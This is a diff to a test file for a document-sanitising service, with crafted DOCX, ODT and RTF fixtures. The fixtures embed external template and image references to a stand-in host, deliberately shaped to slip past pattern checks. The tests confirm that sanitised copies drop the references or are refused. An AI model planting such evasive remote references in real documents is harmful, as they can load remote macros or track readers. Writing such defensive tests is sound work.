@@ -11,8 +11,9 @@ import pikepdf
 import pytest
 from PIL import Image
 
+from portal.evidence import package, paper
 from portal.evidence.child import Looked, look
-from portal.evidence.kinds import Reason
+from portal.evidence.kinds import Reason, Refused
 from tests.integration.evidence import made
 from tests.integration.evidence.heic import HEIC
 
@@ -53,8 +54,8 @@ def inside(copy: bytes) -> bytes:
             pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable, stream_decode_level=level, compress_streams=False)
         return out.getvalue()
     if copy.startswith(b"PK"):
-        with zipfile.ZipFile(io.BytesIO(copy)) as package:
-            return b"".join(name.encode() + package.read(name) for name in package.namelist()) + package.comment
+        with zipfile.ZipFile(io.BytesIO(copy)) as parts:
+            return b"".join(name.encode() + parts.read(name) for name in parts.namelist()) + parts.comment
     return copy
 
 
@@ -95,3 +96,27 @@ def test_an_old_word_file_has_no_copy_and_one_with_a_program_is_refused() -> Non
     ole = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(1016)
     assert copied("letter.doc", ole) == (Looked(None, ""), b"")
     assert copied("letter.doc", ole + "_VBA_PROJECT".encode("utf-16-le"))[0] == Looked(Reason.PROGRAM)
+
+
+RELATION = f'<Relationships xmlns="{made.RELATIONS}">%s</Relationships>'
+FAR = f'Type="{made.OFFICE}/attachedTemplate" Target="http://far.test/a.dotm" TargetMode="External"'
+REACHES: dict[str, Callable[[], bytes]] = {
+    "closed.docx": lambda: made.docx(**{"word/_rels/settings.xml.rels": RELATION % f'<Relationship Id="c" {FAR}></Relationship>'}),
+    "sharp.docx": lambda: made.docx(**{"word/_rels/settings.xml.rels": RELATION % f'<Relationship Id="a>b" {FAR}/>'}),
+    "spaced.odt": lambda: made.odt(**{"content.xml": '<a xmlns:xlink="x"><b xlink:href = "http://far.test/a.png"/></a>'}),
+    "renamed.odt": lambda: made.odt(**{"content.xml": '<a xmlns:x="http://www.w3.org/1999/xlink"><b x:href="http://far.test/a.png"/></a>'}),
+    "broken-line.rtf": lambda: b"{\\rtf1{\\*\r\n\\template http://far.test/a.dotm}Nobody rang.}",
+    "styled.rtf": lambda: rb'{\rtf1{\field{\*\fldinst {\fs24 INCLUDEPICTURE "http://far.test/a.png" \\d}}}}',
+}
+"""Written so that a pattern passes over it, and opened by Word or LibreOffice all the same."""
+
+
+@pytest.mark.parametrize("name", REACHES)
+def test_no_copy_fetches_anything_when_it_is_opened(name: str) -> None:
+    ending = name.rpartition(".")[2]
+    try:
+        _media, copy = (paper if ending == "rtf" else package).copy(REACHES[name](), "", ending)
+    except Refused as refused:
+        assert refused.reason is Reason.PROGRAM
+    else:
+        assert b"far.test" not in inside(copy)
